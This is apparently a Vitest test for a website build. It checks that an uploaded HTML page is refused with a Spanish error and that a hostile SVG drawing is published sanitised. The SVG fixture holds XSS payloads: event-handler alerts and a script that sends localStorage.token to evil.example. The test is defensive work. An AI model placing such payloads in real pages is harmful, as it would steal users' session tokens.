// What staff can upload to public/ (the editor's pictures go there) is
// served on the origin where they sign in: a build refuses, by name and in
// Spanish, a file a browser would run code from, and publishes every
// drawing sanitised.
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { CONTENT_PROBLEMS_FILE } from '~/builder/text/content-checks';
import { buildIn, copyProject } from '../../scripts/lib/project-copy.mjs';

/** One failed and one full build of a copy of the project, beside other tests. */
const BUILD_TIMEOUT_MS = 300_000;

const PLAN = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="alert(1)"><title>Plano</title><script>fetch('https://evil.example/?'+localStorage.token)</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(3)"/></foreignObject><rect width="100" height="100" fill="#17498f"/></svg>`;

describe('files uploaded to public/', () => {
  it(
    'refuses a page in public/ before anything compiles, and publishes a hostile drawing sanitised',
    async () => {
      const copy = await copyProject('isc-served-');
      try {
        const images = path.join(copy.dir, 'public/images');
        await mkdir(images, { recursive: true });
        await writeFile(
          path.join(images, 'aviso.html'),
          '<!doctype html><script>alert(1)</script>',
        );
        await writeFile(path.join(images, 'plano.svg'), PLAN);
        const history = path.join(copy.dir, 'content/historia.mdx');
        await writeFile(
          history,
          `${await readFile(history, 'utf8')}\n[Ver el plano](/images/plano.svg)\n`,
        );
        const failed = await buildIn(copy.dir).then(
          () => '',
          (error: Error) => error.message,
        );
        expect(failed).toContain(
          'public/images/aviso.html, línea 1: el sitio no publica páginas, scripts ni archivos XML subidos',
        );
        expect(failed).toContain('Un archivo subido no se puede publicar');
        const told = JSON.parse(
          await readFile(path.join(copy.dir, 'build', CONTENT_PROBLEMS_FILE), 'utf8'),
        );
        expect(told).toEqual([expect.objectContaining({ file: 'public/images/aviso.html' })]);

        await rm(path.join(images, 'aviso.html'));
        await buildIn(copy.dir);
        const plan = await readFile(path.join(copy.dir, 'build/client/images/plano.svg'), 'utf8');
        expect(plan).toContain('<title>Plano</title>');
        expect(plan).toContain('fill="#17498f"');
        for (const part of ['onload', 'script', 'foreignObject', 'onerror', 'evil'])
          expect(plan).not.toContain(part);
      } finally {
        await copy.remove();
      }
    },
    BUILD_TIMEOUT_MS,
  );
});
